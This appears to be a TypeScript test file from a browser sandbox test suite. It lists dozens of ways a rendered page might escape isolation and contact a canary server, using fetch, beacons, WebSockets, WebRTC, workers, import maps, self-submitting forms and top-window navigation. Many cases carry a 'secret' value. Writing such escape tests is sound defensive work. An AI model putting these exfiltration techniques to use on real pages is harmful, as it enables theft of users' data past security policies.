import type { Attack, Targets } from './attack.ts'
import { reachesCanary } from './judges.ts'
import { leaving, markup, script } from './view-kit.ts'

/** An attack that sends something to the canary, with nothing declared. */
export const network = (id: string, title: string, view: (at: Targets) => string): Attack => ({
  id: `net-${id}`,
  title,
  category: 'network',
  view,
  escaped: reachesCanary,
})

/** Requests by scripts. */
export const requestAttacks: readonly Attack[] = [
  network('fetch', 'fetch', ({ canary }) => script(`await later(fetch('${canary}/x'))`)),
  network('fetch-no-cors', 'fetch without CORS, with a body', ({ canary }) =>
    script(`await later(fetch('${canary}/x', { method: 'POST', mode: 'no-cors', body: 'secret' }))`),
  ),
  network('fetch-keepalive', 'fetch that outlives its page', ({ canary }) =>
    script(`await later(fetch('${canary}/x', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'secret' }))`),
  ),
  network('fetch-later', 'fetchLater with no delay', ({ canary }) =>
    script(`fetchLater('${canary}/x', { activateAfter: 0 }); await wait(300)`),
  ),
  network('xhr', 'XMLHttpRequest', ({ canary }) =>
    script(
      `const x = new XMLHttpRequest(); x.open('POST', '${canary}/x'); x.send('secret'); await later(new Promise((done) => (x.onloadend = done)))`,
    ),
  ),
  network('xhr-sync', 'synchronous XMLHttpRequest', ({ canary }) =>
    script(`const x = new XMLHttpRequest(); x.open('GET', '${canary}/x', false); attempt(() => x.send())`),
  ),
  network('beacon', 'sendBeacon', ({ canary }) => script(`navigator.sendBeacon('${canary}/x', 'secret')`)),
  network('websocket', 'WebSocket', ({ socket }) =>
    script(`const s = new WebSocket('${socket}/x'); await later(new Promise((done) => (s.onerror = s.onclose = done)))`),
  ),
  network('websocket-stream', 'WebSocket in a frame without an address', ({ socket }) =>
    script(
      `const f = document.createElement('iframe'); document.body.append(f); const s = new f.contentWindow.WebSocket('${socket}/x'); await later(new Promise((done) => (s.onerror = s.onclose = done)))`,
    ),
  ),
  network('eventsource', 'EventSource', ({ canary }) =>
    script(
      `const e = new EventSource('${canary}/x.events'); await later(new Promise((done) => (e.onmessage = e.onerror = done)))`,
    ),
  ),
  network('webtransport', 'WebTransport', ({ port }) =>
    script(`await later(new WebTransport('https://127.0.0.1:${port}/x').ready)`),
  ),
  network('rtc-stun', 'WebRTC that asks a STUN server', ({ port }) =>
    script(
      `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); p.createDataChannel('x'); await p.setLocalDescription(); await later(new Promise((done) => (p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && done())), 2500)`,
    ),
  ),
  network('rtc-turn-tcp', 'WebRTC that connects to a TURN server by TCP', ({ port }) =>
    script(
      `const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:${port}?transport=tcp', username: 'secret', credential: 'x' }], iceTransportPolicy: 'relay' }); p.createDataChannel('x'); await p.setLocalDescription(); await wait(800)`,
    ),
  ),
  network('rtc-candidate', 'WebRTC with the canary as the other side', ({ port }) =>
    script(
      `const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel('x'); await p.setLocalDescription(); await q.setRemoteDescription(p.localDescription); await q.setLocalDescription(); await p.setRemoteDescription(q.localDescription); await later(p.addIceCandidate({ candidate: 'candidate:1 1 udp 2130706431 127.0.0.1 ${port} typ host', sdpMid: '0' })); await wait(1200)`,
    ),
  ),
  network('worker-blob', 'a worker from a blob that fetches', ({ canary }) =>
    script(
      `const w = new Worker(URL.createObjectURL(new Blob(["fetch('${canary}/x').catch(() => {}).then(() => postMessage(1))"]))); await later(new Promise((done) => (w.onmessage = w.onerror = done)))`,
    ),
  ),
  network('worker-data', 'a worker from a data: address that fetches', ({ canary }) =>
    script(
      `const w = new Worker("data:text/javascript,fetch('${canary}/x').catch(()=>{}).then(()=>postMessage(1))"); await later(new Promise((done) => (w.onmessage = w.onerror = done)))`,
    ),
  ),
  network('worker-import', 'importScripts in a worker', ({ canary }) =>
    script(
      `const w = new Worker(URL.createObjectURL(new Blob(["try { importScripts('${canary}/x.js') } catch {} postMessage(1)"]))); await later(new Promise((done) => (w.onmessage = w.onerror = done)))`,
    ),
  ),
  network('worker-module', 'an import in a module worker', ({ canary }) =>
    script(
      `const w = new Worker(URL.createObjectURL(new Blob(["import '${canary}/x.js'; postMessage(1)"], { type: 'text/javascript' })), { type: 'module' }); await later(new Promise((done) => (w.onmessage = w.onerror = done)))`,
    ),
  ),
  network('worker-nested', 'a worker within a worker that opens a socket', ({ socket }) =>
    script(
      `const inner = "const s = new WebSocket('${socket}/x'); s.onerror = s.onclose = () => postMessage(1)"; const outer = 'const w = new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + ']))); w.onmessage = w.onerror = () => postMessage(1)'; const w = new Worker(URL.createObjectURL(new Blob([outer]))); await later(new Promise((done) => (w.onmessage = w.onerror = done)))`,
    ),
  ),
  network('shared-worker', 'a shared worker from a blob that fetches', ({ canary }) =>
    script(
      `const w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = ({ ports: [p] }) => fetch('${canary}/x').catch(() => {}).then(() => p.postMessage(1))"]))); await later(new Promise((done) => (w.port.onmessage = w.onerror = done)))`,
    ),
  ),
  network(
    'service-worker',
    'the View registers its own document as a service worker, which fetches',
    ({ canary }) =>
      `<!--
fetch('${canary}/x'); oninstall = (event) => event.waitUntil(fetch('${canary}/y')); /*
-->${script(`await later(navigator.serviceWorker.register(location.href, { scope: location.pathname }), 3000); await wait(300)`)}<!-- */ // -->`,
  ),
  network('audio-worklet', 'a module for an audio worklet', ({ canary }) =>
    script(`await later(new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('${canary}/x.js'))`),
  ),
  network('paint-worklet', 'a module for a paint worklet', ({ canary }) =>
    script(`await later(CSS.paintWorklet.addModule('${canary}/x.js'))`),
  ),
  network('dynamic-import', 'import()', ({ canary }) => script(`await later(import('${canary}/x.js'))`)),
  network('json-import', 'import() of JSON', ({ canary }) =>
    script(`await later(import('${canary}/x.json', { with: { type: 'json' } }))`),
  ),
  network('import-map', 'an import map that leads elsewhere', ({ canary }) =>
    script(
      `await later(import('harmless'))`,
      `<script type="importmap">{ "imports": { "harmless": "${canary}/x.js" } }</script>`,
    ),
  ),
  network('new-image', 'new Image()', ({ canary }) =>
    script(`const i = new Image(); i.src = '${canary}/x.png'; await later(i.decode())`),
  ),
  network('new-audio', 'new Audio()', ({ canary }) => script(`new Audio('${canary}/x.mp3').preload = 'auto'; await wait(200)`)),
  network('font-face', 'new FontFace()', ({ canary }) =>
    script(`await later(new FontFace('x', "url('${canary}/x.woff2')").load())`),
  ),
  network('adopted-sheet', 'a constructed style sheet', ({ canary }) =>
    script(
      `const s = new CSSStyleSheet(); s.replaceSync("body { background: url('${canary}/x.png') }"); document.adoptedStyleSheets = [s]; await wait(200)`,
    ),
  ),
  network('insert-rule', 'a rule that is inserted', ({ canary }) =>
    script(
      `document.styleSheets[0].insertRule("body { background: url('${canary}/x.png') }"); await wait(200)`,
      '<style>p{}</style>',
    ),
  ),
  network('payment', 'a payment method that must be looked up', ({ canary }) =>
    script(
      `await later(new PaymentRequest([{ supportedMethods: '${canary}/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment())`,
    ),
  ),
  network('identity', 'an identity provider that must be looked up', ({ canary }) =>
    script(
      `await later(navigator.credentials.get({ identity: { providers: [{ configURL: '${canary}/fedcm.json', clientId: 'secret' }] } }))`,
    ),
  ),
  network('html-unsafe', 'setHTMLUnsafe with a shadow root that loads', ({ canary }) =>
    script(
      `document.body.setHTMLUnsafe('<div><template shadowrootmode="open"><img src="${canary}/x.png"></template></div>'); await wait(200)`,
    ),
  ),
  network('document-write', 'document.write of a script', ({ canary }) =>
    script(`document.write('<script src="${canary}/x.js"><\\/script>'); tried()`),
  ),
  network('blank-frame', 'a frame without an address that fetches', ({ canary }) =>
    script(
      `const f = document.createElement('iframe'); document.body.append(f); await later(f.contentWindow.fetch('${canary}/x'))`,
    ),
  ),
  {
    ...network('pagehide', 'a beacon when the View is removed', ({ canary }) =>
      script(
        `addEventListener('pagehide', () => navigator.sendBeacon('${canary}/bye', 'secret')); addEventListener('visibilitychange', () => navigator.sendBeacon('${canary}/hide'))`,
      ),
    ),
    atTheEnd: true,
  },
]

/** Ways out that take the View, the proxy or the host along. */
export const navigationAttacks: readonly Attack[] = [
  network('location', 'location =', ({ canary }) => leaving(`location = '${canary}/x?secret'`)),
  network('location-replace', 'location.replace', ({ canary }) => leaving(`location.replace('${canary}/x?secret')`)),
  network('navigation-api', 'navigation.navigate', ({ canary }) => leaving(`navigation.navigate('${canary}/x?secret')`)),
  network('meta-refresh', 'meta refresh', ({ canary }) =>
    markup(`<script>tried()</script><meta http-equiv="refresh" content="0;url=${canary}/x?secret">`),
  ),
  network('anchor', 'a link that clicks itself', ({ canary }) =>
    leaving(`document.links[0].click()`, `<a href="${canary}/x?secret">x</a>`),
  ),
  network('anchor-ping', 'a link with a ping', ({ canary }) =>
    leaving(`document.links[0].click()`, `<a href="#here" ping="${canary}/ping">x</a>`),
  ),
  network('area', 'an image map that clicks itself', ({ canary }) =>
    leaving(`document.querySelector('area').click()`, `<map name="m"><area href="${canary}/x" shape="default"></map>`),
  ),
  network('svg-anchor', 'a link in SVG', ({ canary }) =>
    leaving(
      `document.querySelector('a').dispatchEvent(new MouseEvent('click'))`,
      `<svg><a href="${canary}/x"><text>x</text></a></svg>`,
    ),
  ),
  network('form-get', 'a form that submits itself', ({ canary }) =>
    leaving(`document.forms[0].submit()`, `<form action="${canary}/x"><input name="s" value="secret"></form>`),
  ),
  network('form-post', 'a form that posts itself', ({ canary }) =>
    leaving(
      `document.forms[0].submit()`,
      `<form action="${canary}/x" method="post" enctype="text/plain"><input name="s" value="secret"></form>`,
    ),
  ),
  network('form-frame', 'a form into a frame of its own', ({ canary }) =>
    script(
      `HTMLFormElement.prototype.submit.call(document.forms[0]); await wait(300)`,
      `<iframe name="f"></iframe><form action="${canary}/x" target="f"><input name="s" value="secret"></form>`,
    ),
  ),
  network('formaction', 'a button with an address of its own', ({ canary }) =>
    leaving(
      `document.querySelector('button').click()`,
      `<form><button formaction="${canary}/x" formmethod="post">x</button></form>`,
    ),
  ),
  network('form-click', 'a form that the user is made to send', ({ canary }) =>
    script(
      `await click(); tried(); await wait(200)`,
      `<form action="${canary}/x"><button style="position:fixed;inset:0;width:100%;height:100%">x</button></form>`,
    ),
  ),
  network('open-self', 'window.open into itself', ({ canary }) => leaving(`open('${canary}/x?secret', '_self')`)),
  network('open', 'window.open', ({ canary }) => script(`open('${canary}/x?secret'); await wait(300)`)),
  network('open-noopener', 'window.open without a way back', ({ canary }) =>
    script(`open('${canary}/x?secret', '', 'noopener'); await wait(300)`),
  ),
  network('open-clicked', 'window.open after a real click', ({ canary }) =>
    script(`await click(); open('${canary}/x?secret'); await wait(300)`),
  ),
  network('anchor-blank', 'a link into a new window, after a real click', ({ canary }) =>
    script(`await click(); await wait(300)`, `<a href="${canary}/x" target="_blank" style="position:fixed;inset:0">x</a>`),
  ),
  network('parent-location', 'the proxy is sent away', ({ canary }) =>
    leaving(`attempt(() => { parent.location = '${canary}/x?secret' })`),
  ),
  network('top-location', 'the host is sent away', ({ canary }) =>
    leaving(`attempt(() => { top.location = '${canary}/x?secret' })`),
  ),
  network('top-location-clicked', 'the host is sent away after a real click', ({ canary }) =>
    script(`await click(); tried(); attempt(() => { top.location.href = '${canary}/x?secret' }); await wait(200)`),
  ),
  network('blob-document', 'the View becomes a blob: document without a policy', ({ canary }) =>
    leaving(
      `location = URL.createObjectURL(new Blob(["<script>fetch('${canary}/x')<\\/script><img src='${canary}/y'>"], { type: 'text/html' }))`,
    ),
  ),
  network('data-document', 'a data: frame without a policy', ({ canary }) =>
    markup(`<iframe src="data:text/html,<img src='${canary}/x'>"></iframe>`),
  ),
  network('javascript-frame', 'a javascript: frame', ({ canary }) =>
    markup(`<iframe src="javascript:'<img src=&quot;${canary}/x&quot;>'"></iframe>`),
  ),
  network('srcdoc', 'a srcdoc frame', ({ canary }) =>
    markup(`<iframe srcdoc="<img src='${canary}/x'><script>fetch('${canary}/y')</script>"></iframe>`),
  ),
  network('sandboxed-srcdoc', 'a srcdoc frame with an origin of its own', ({ canary }) =>
    markup(`<iframe sandbox="allow-scripts" srcdoc="<script>fetch('${canary}/y')</script><img src='${canary}/x'>"></iframe>`),
  ),
  network('blob-frame', 'a blob: frame', ({ canary }) =>
    script(
      `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='${canary}/x'>"], { type: 'text/html' })); document.body.append(f); await wait(300)`,
    ),
  ),
  network('xml-stylesheet', 'an XML document with a style sheet, in a frame', ({ canary }) =>
    script(
      `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<?xml version="1.0"?><?xml-stylesheet href="${canary}/x.css"?><a/>'], { type: 'text/xml' })); document.body.append(f); await wait(300)`,
    ),
  ),
]
